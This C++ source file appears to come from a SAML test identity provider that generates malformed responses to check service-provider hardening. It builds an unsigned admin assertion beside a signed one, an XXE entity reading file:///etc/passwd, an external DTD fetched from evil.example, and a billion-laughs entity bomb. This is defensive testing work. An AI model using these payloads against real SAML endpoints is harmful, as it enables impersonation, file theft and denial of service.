// Structure faults: what the document is, before any signature is looked at
// — two assertions, an ID used twice, a signed document that is not a
// Response, the wrong SAML version, a message too large to take, and DTDs
// (XXE, an external DTD, billion laughs) that a hardened parser refuses.
// DTDs are added with libxml2's tree API (internal subset, entity
// declarations, entity references), never spliced in as text.
#include "idp/faults/fault_groups.h"
#include "idp/faults/fault_tools.h"
#include "saml/saml_names.h"
#include "sp/check_catalog.h"
#include "xml/xml_document.h"

#include <QUuid>
#include <algorithm>
#include <libxml/entities.h>

namespace jh::idp::faults {
namespace {

using namespace sp::check;
using xml::xc;

// More than any SP's limit (256 KiB by default here) once base64-encoded or not.
constexpr qsizetype kOversize = qsizetype{300} * 1024;

Result<QByteArray> twoAssertions(const FaultInput& in)
{
    saml::AssertionSpec evil = in.spec;
    evil.assertionId = saml::newMessageId();
    evil.subject.nameId = evilNameId(in.spec);
    Recipe r;
    r.afterSigning = [evil](saml::ResponseDocument& rd) -> Result<void> {
        // The admin's assertion is written like the IdP's own, but unsigned.
        saml::ResponseDocument other = saml::writeResponse(evil);
        xmlAddNextSibling(rd.assertion, xmlDocCopyNode(other.assertion, rd.doc.get(), 1));
        return {};
    };
    return render(in, in.spec, r);
}

Result<QByteArray> duplicateIds(const FaultInput& in)
{
    saml::AssertionSpec s = in.spec;
    s.responseId = s.assertionId;
    Recipe r;
    return render(in, s, r);
}

Result<QByteArray> notAResponse(const FaultInput& in)
{
    Recipe r;
    r.afterSigning = [](saml::ResponseDocument& rd) -> Result<void> {
        xmlUnlinkNode(rd.assertion);
        xmlFreeNode(xmlDocSetRootElement(rd.doc.get(), rd.assertion));
        rd.response = nullptr;
        rd.responseIssuer = nullptr;
        return {};
    };
    return render(in, in.spec, r);
}

Result<QByteArray> wrongVersion(const FaultInput& in)
{
    Recipe r = inputRecipe(in);
    r.beforeSigning = [](saml::ResponseDocument& rd) -> Result<void> {
        setAttribute(rd.response, "Version", QStringLiteral("1.1"));
        return {};
    };
    return render(in, in.spec, r);
}

Result<QByteArray> oversized(const FaultInput& in)
{
    // The realistic way to get there: a directory that sends every group.
    saml::AssertionSpec s = in.spec;
    const saml::Attribute shape = s.attributes.isEmpty() ? saml::Attribute{} : s.attributes.first();
    auto groups =
        std::find_if(s.attributes.begin(), s.attributes.end(),
                     [](const saml::Attribute& a) { return a.name == QLatin1String("groups"); });
    if (groups == s.attributes.end()) {
        s.attributes.append({QStringLiteral("groups"), shape.nameFormat, {}, shape.valueType, {}});
        groups = s.attributes.end() - 1;
    }
    const QUuid ns = QUuid::fromString(QStringLiteral("{6ba7b811-9dad-11d1-80b4-00c04fd430c8}"));
    for (int batch = 1;; batch *= 2) {
        for (int i = int(groups->values.size()); i < batch * 4096; ++i)
            groups->values
                << QUuid::createUuidV5(ns, QString::number(i)).toString(QUuid::WithoutBraces);
        auto out = renderSpec(in, s);
        if (!out || out->size() > kOversize || batch >= 16)
            return out;
    }
}

// An internal subset on the signed document, and `entity` referenced from
// the NameID (where an SP echoing the user name would show its expansion).
Result<QByteArray> withDtd(const FaultInput& in, const std::function<void(xmlDoc*)>& declare,
                           const char* entity)
{
    Recipe r;
    r.afterSigning = [&](saml::ResponseDocument& rd) -> Result<void> {
        declare(rd.doc.get());
        if (entity) {
            xmlNode* nameId = nameIdOf(rd.assertion);
            xmlNodeSetContent(nameId, nullptr);
            xmlAddChild(nameId, xmlNewReference(rd.doc.get(), xc(entity)));
        }
        return {};
    };
    return render(in, in.spec, r);
}

void declareXxe(xmlDoc* doc)
{
    xmlCreateIntSubset(doc, xc("samlp:Response"), nullptr, nullptr);
    xmlAddDocEntity(doc, xc("xxe"), XML_EXTERNAL_GENERAL_PARSED_ENTITY, nullptr,
                    xc("file:///etc/passwd"), nullptr);
}

void declareExternalDtd(xmlDoc* doc)
{
    xmlCreateIntSubset(doc, xc("samlp:Response"), nullptr, xc("https://evil.example/saml.dtd"));
}

void declareLaughs(xmlDoc* doc)
{
    xmlCreateIntSubset(doc, xc("samlp:Response"), nullptr, nullptr);
    xmlAddDocEntity(doc, xc("lol0"), XML_INTERNAL_GENERAL_ENTITY, nullptr, nullptr, xc("lol"));
    for (int level = 1; level <= 9; ++level) {
        QByteArray content;
        for (int i = 0; i < 10; ++i)
            content += "&lol" + QByteArray::number(level - 1) + ';';
        const QByteArray name = "lol" + QByteArray::number(level);
        xmlAddDocEntity(doc, xc(name.constData()), XML_INTERNAL_GENERAL_ENTITY, nullptr, nullptr,
                        xc(content.constData()));
    }
}

} // namespace

QList<Fault> structureFaults()
{
    FaultList list(QStringLiteral("structure"));
    auto clear = [](Fault& f) {
        f.signMode = SignMode::Assertion;
        f.encrypted = false;
    };
    clear(list.add("two-assertions", kStructureSingleAssertion,
                   QStringLiteral("The signed assertion, followed by an unsigned one for the "
                                  "admin."),
                   QStringLiteral("CVE-2022-41912 (crewjam/saml: several Assertion elements); "
                                  "SAML Profiles 4.1.4.2"),
                   twoAssertions));
    clear(list.add("duplicate-ids", kStructureUniqueIds,
                   QStringLiteral("The Response and the Assertion carry the same ID, so \"#ID\" "
                                  "names two elements."),
                   QStringLiteral("XML Schema 1.0 Part 2 3.3.8 (xs:ID is unique); SAML Core "
                                  "1.3.4 (ID uniqueness)"),
                   duplicateIds));
    clear(list.add("not-a-response", kStructureRoot,
                   QStringLiteral("A validly signed saml:Assertion posted on its own, without a "
                                  "samlp:Response around it."),
                   QStringLiteral("SAML Bindings 3.5.4 (HTTP POST carries a protocol message); "
                                  "SAML Profiles 4.1.4.2"),
                   notAResponse));
    list.add("wrong-version", kStructureVersion,
             QStringLiteral("Response Version=\"1.1\" (signed as such)."),
             QStringLiteral("SAML Core 3.2.2 (Version MUST be 2.0)"), wrongVersion);
    list.add("oversized", kDecodeSize,
             QStringLiteral("A validly signed message over 300 KiB: a directory that sends every "
                            "group (thousands of values)."),
             QStringLiteral("CWE-400 (uncontrolled resource consumption); Microsoft Entra caps "
                            "SAML group claims at 150 for this reason"),
             oversized);
    clear(list.add("doctype-xxe", kXmlDtd,
                   QStringLiteral("A DOCTYPE declaring an external entity (file:///etc/passwd), "
                                  "referenced from the NameID."),
                   QStringLiteral("CWE-611 (XXE); OWASP XML External Entity Prevention Cheat "
                                  "Sheet"),
                   [](const FaultInput& in) { return withDtd(in, declareXxe, "&xxe;"); }));
    clear(list.add("external-dtd", kXmlDtd,
                   QStringLiteral("A DOCTYPE naming an external DTD on the attacker's host "
                                  "(out-of-band fetch)."),
                   QStringLiteral("CWE-611; CWE-918 (server-side request forgery)"),
                   [](const FaultInput& in) { return withDtd(in, declareExternalDtd, nullptr); }));
    clear(list.add("billion-laughs", kXmlDtd,
                   QStringLiteral("Nested internal entities, ten per level, nine levels deep "
                                  "(10^9 \"lol\"s), referenced from the NameID."),
                   QStringLiteral("CWE-776 (entity expansion); the \"billion laughs\" attack"),
                   [](const FaultInput& in) { return withDtd(in, declareLaughs, "&lol9;"); }));
    return list.take();
}

} // namespace jh::idp::faults
